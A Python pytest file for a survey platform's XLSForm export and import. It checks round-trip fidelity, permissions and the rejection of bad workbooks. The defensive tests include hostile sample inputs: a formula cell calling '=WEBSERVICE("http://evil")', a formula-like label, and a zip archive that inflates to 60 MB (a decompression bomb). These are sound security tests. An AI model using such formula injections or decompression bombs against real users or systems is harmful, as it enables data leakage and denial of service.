"""XLSForm: export then import keeps the questionnaire; hostile or malformed files are reported
row by row and change nothing."""

import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from glas.core.models import AuditEntry
from glas.surveys import services
from glas.surveys.models import Survey
from glas.surveys.selectors import survey_structure
from glas.surveys.services import QUESTION_FIELDS
from glas.surveys.xlsform import XLSFormInvalid, export_xlsform


def summary(survey):
    structure = survey_structure(survey)
    sections = {section.pk: (section.position, section.title, section.logic) for section in structure.sections}
    return [
        (
            sections[question.section_id],
            question.position,
            {name: getattr(question, name) for name in QUESTION_FIELDS},
            [(choice.code, choice.label) for choice in question.choices.all()],
            [(row.code, row.label) for row in question.rows.all()],
        )
        for question in structure.questions
    ]


@pytest.fixture
def rich_survey(researcher, survey, section, kresna):
    add = services.question_add
    services.section_update(actor=researcher, section=section, data={"title": "Участие"})
    add(actor=researcher, section=section, variable="voted", text="Гласувахте ли?", type="yes_no", required=True)
    add(
        actor=researcher,
        section=section,
        variable="how",
        text="Как?",
        type="single",
        help_text="Една",
        choices=[("1", "В секция"), ("2", '=HYPERLINK("x")')],
        allow_other=True,
        randomise=True,
        logic={"op": "equals", "var": "voted", "value": "yes"},
    )
    add(
        actor=researcher,
        section=section,
        variable="channels",
        text="Откъде?",
        type="multiple",
        choices=[("tv", "ТВ"), ("web", "Сайт"), ("fb", "Facebook")],
        min_choices=1,
        max_choices=2,
    )
    add(actor=researcher, section=section, variable="drop", text="?", type="dropdown", choices=[("a", "A"), ("b", "B")])
    add(actor=researcher, section=section, variable="trust", text="Доверие", type="likert", scale_points=5)
    add(
        actor=researcher,
        section=section,
        variable="grid",
        text="Оценете",
        type="matrix",
        choices=[("1", "Лошо"), ("2", "Добре")],
        rows=[("roads", "Пътища"), ("water", "Вода")],
    )
    second = services.section_add(
        actor=researcher,
        survey=survey,
        title="За вас",
        logic_json={
            "or": [
                {"op": "in", "var": "how", "values": ["1", "other"]},
                {"op": "equals", "var": "channels", "value": "web"},
            ]
        },
    )
    add(actor=researcher, section=second, variable="age", text="Възраст", type="numeric", min_value=18, max_value=110)
    add(
        actor=researcher, section=second, variable="income", text="Доход", type="numeric", decimal_places=2, min_value=0
    )
    add(
        actor=researcher,
        section=second,
        variable="why",
        text="Защо?",
        type="short_text",
        max_length=100,
        logic={"and": [{"op": "range", "var": "age", "min": 18, "max": 30}, {"op": "answered", "var": "trust"}]},
    )
    add(actor=researcher, section=second, variable="story", text="Разкажете", type="long_text")
    add(
        actor=researcher,
        section=second,
        variable="day",
        text="Кога?",
        type="date",
        logic={"op": "range", "var": "income", "min": 100, "min_exclusive": True},
    )
    add(
        actor=researcher,
        section=second,
        variable="prio",
        text="Подредете",
        type="ranking",
        choices=[("p", "P"), ("q", "Q")],
    )
    add(
        actor=researcher,
        section=second,
        variable="nps",
        text="0–10",
        type="scale_0_10",
        low_label="никак",
        high_label="много",
    )
    add(
        actor=researcher,
        section=second,
        variable="place",
        text="Къде живеете?",
        type="settlement",
        logic={"op": "equals", "var": "drop", "value": "a"},
    )
    add(actor=researcher, section=second, variable="thanks", text="Благодарим!", type="note")
    return survey


def test_export_then_import_gives_back_the_same_questionnaire(researcher, rich_survey):
    data = export_xlsform(rich_survey)
    copy = services.survey_import_xlsform(actor=researcher, data=data)
    assert copy.title == rich_survey.title
    assert copy.status == Survey.Status.DRAFT
    assert summary(copy) == summary(rich_survey)
    assert AuditEntry.objects.filter(action="surveys.survey.imported").count() == 1


def test_exported_text_that_looks_like_a_formula_stays_text(rich_survey):
    workbook = load_workbook(io.BytesIO(export_xlsform(rich_survey)))
    cells = [cell for row in workbook["choices"].iter_rows() for cell in row if cell.value == '=HYPERLINK("x")']
    assert cells and all(cell.data_type == "s" for cell in cells)


def test_the_export_has_the_three_xlsform_sheets_with_standard_types(rich_survey):
    workbook = load_workbook(io.BytesIO(export_xlsform(rich_survey)))
    assert workbook.sheetnames == ["survey", "choices", "settings"]
    types = [row[0] for row in workbook["survey"].iter_rows(min_row=2, values_only=True)]
    assert "select_one how or_other" in types and "select_multiple channels" in types
    assert types[0] == "begin_group" and types[-1] == "end_group"
    relevants = {row[1]: row[5] for row in workbook["survey"].iter_rows(min_row=2, values_only=True)}
    assert relevants["how"] == "${voted} = 'yes'"
    assert relevants["why"] == "(${age} >= 18 and ${age} <= 30) and ${trust} != ''"


def workbook_bytes(
    survey_rows,
    choice_rows=(),
    *,
    header=("type", "name", "label", "relevant", "constraint", "required"),
    sheets=("survey", "choices"),
):
    workbook = Workbook()
    workbook.remove(workbook.worksheets[0])
    if "survey" in sheets:
        sheet = workbook.create_sheet("survey")
        sheet.append(list(header))
        for row in survey_rows:
            sheet.append(list(row))
    if "choices" in sheets:
        choices = workbook.create_sheet("choices")
        choices.append(["list_name", "name", "label"])
        for row in choice_rows:
            choices.append(list(row))
    if not workbook.worksheets:
        workbook.create_sheet("other")
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def import_problems(researcher, data):
    before = (Survey.objects.count(), AuditEntry.objects.count())
    with pytest.raises(XLSFormInvalid) as error:
        services.survey_import_xlsform(actor=researcher, data=data)
    assert (Survey.objects.count(), AuditEntry.objects.count()) == before
    return [(problem.sheet, problem.row, problem.message) for problem in error.value.problems]


def test_a_plain_kobo_form_imports(researcher):
    data = workbook_bytes(
        [
            ("select_one yn", "q1", "Гласувахте ли?", "", "", "yes"),
            ("integer", "age", "Възраст", "selected(${q1}, 'yes')", ". >= 18 and . <= 99", "no"),
            ("text", "why", "Защо?", "${age} > 30 or ${q1} = 'no'", "string-length(.) <= 20", ""),
        ],
        [("yn", "yes", "Да"), ("yn", "no", "Не")],
    )
    survey = services.survey_import_xlsform(actor=researcher, data=data)
    questions = {question.variable: question for question in survey.questions.all()}
    assert questions["q1"].type == "single" and questions["q1"].required
    assert (questions["age"].min_value, questions["age"].max_value) == (18, 99)
    assert questions["age"].logic == {"op": "equals", "var": "q1", "value": "yes"}
    assert questions["why"].max_length == 20
    assert questions["why"].logic == {
        "or": [
            {"op": "range", "var": "age", "min": 30, "min_exclusive": True},
            {"op": "equals", "var": "q1", "value": "no"},
        ]
    }


def test_formulas_in_cells_are_refused_not_evaluated(researcher):
    data = workbook_bytes([("text", "q1", '=WEBSERVICE("http://evil")'), ("text", "q2", "=1+1")])
    problems = import_problems(researcher, data)
    assert [(sheet, row) for sheet, row, _message in problems] == [("survey", 2), ("survey", 3)]
    assert all("formula" in message for _sheet, _row, message in problems)


def test_unknown_and_unsupported_types_are_reported_line_by_line(researcher):
    data = workbook_bytes(
        [
            ("text", "ok", "Добре"),
            ("geopoint", "where", "Къде?"),
            ("begin_repeat", "kids", "Деца"),
            ("calculate", "c", ""),
            ("select_one", "s", "Липсва списък"),
            ("select_one nolist", "t", "Непознат списък"),
        ]
    )
    problems = import_problems(researcher, data)
    assert [row for _sheet, row, _message in problems] == [3, 4, 5, 6, 7]


def test_unsupported_relevant_and_constraint_are_reported(researcher):
    data = workbook_bytes(
        [
            ("integer", "a", "A"),
            ("text", "b", "B", "${a} * 2 > 3"),
            ("text", "c", "C", "not(${a} = 1)"),
            ("integer", "d", "D", "", "regex(., '^[0-9]+$')"),
            ("text", "e", "E", "${z} = 'x'"),
            ("text", "f", "F", "${g} != ''"),
            ("text", "g", "G"),
            ("text", "h", "H", "", "", "maybe"),
        ]
    )
    problems = import_problems(researcher, data)
    assert [row for _sheet, row, _message in problems] == [3, 4, 5, 6, 7, 9]
    assert "unknown question" in problems[3][2]
    assert "earlier questions" in problems[4][2]


@pytest.mark.parametrize(
    ("data", "fragment"),
    [
        (b"not a workbook at all", "not an .xlsx"),
        (b"PK\x03\x04broken zip", "not an .xlsx"),
        (b"", "not an .xlsx"),
        (b"x" * (5 * 1024 * 1024 + 1), "larger than 5 MB"),
    ],
)
def test_bytes_that_are_not_a_workbook_are_refused(researcher, data, fragment):
    problems = import_problems(researcher, data)
    assert fragment in problems[0][2]


def test_a_zip_that_is_not_a_workbook_is_refused(researcher):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("hello.txt", "hello")
    assert "not an .xlsx" in import_problems(researcher, buffer.getvalue())[0][2]


def test_a_workbook_that_unpacks_to_a_huge_size_is_refused(researcher):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"\x00" * (60 * 1024 * 1024))
    assert "too large" in import_problems(researcher, buffer.getvalue())[0][2]


def test_a_missing_survey_sheet_or_column_is_reported(researcher):
    assert "no “survey” sheet" in import_problems(researcher, workbook_bytes([], sheets=("choices",)))[0][2]
    problems = import_problems(researcher, workbook_bytes([("text",)], header=("type",)))
    assert {message for _sheet, _row, message in problems} >= {"the column “name” is missing."}


def test_a_huge_sheet_is_cut_at_the_row_cap_and_refused(researcher):
    rows = [("text", f"q{index}", "?") for index in range(1, 1200)]
    problems = import_problems(researcher, workbook_bytes(rows))
    assert any("more than 1000 rows" in message for _sheet, _row, message in problems)


def test_nested_or_unclosed_groups_and_duplicate_names_are_reported(researcher):
    data = workbook_bytes(
        [
            ("begin_group", "g1", "Група"),
            ("text", "a", "A"),
            ("begin_group", "g2", "Вътрешна"),
            ("text", "a", "Пак A"),
            ("end_group",),
            ("end_group",),
        ]
    )
    problems = import_problems(researcher, data)
    assert [row for _sheet, row, _message in problems] == [4, 5, 7]


def test_bad_choice_codes_are_reported(researcher):
    data = workbook_bytes([("select_one l", "q", "Q")], [("l", "има интервал", "X"), ("l", "ok", "Y")])
    problems = import_problems(researcher, data)
    assert problems[0][:2] == ("choices", 2) and "code" in problems[0][2]


def test_a_citizen_cannot_import(citizen, rich_survey):
    from glas.core.exceptions import DomainError

    with pytest.raises(DomainError) as error:
        services.survey_import_xlsform(actor=citizen, data=export_xlsform(rich_survey))
    assert error.value.code == "forbidden"
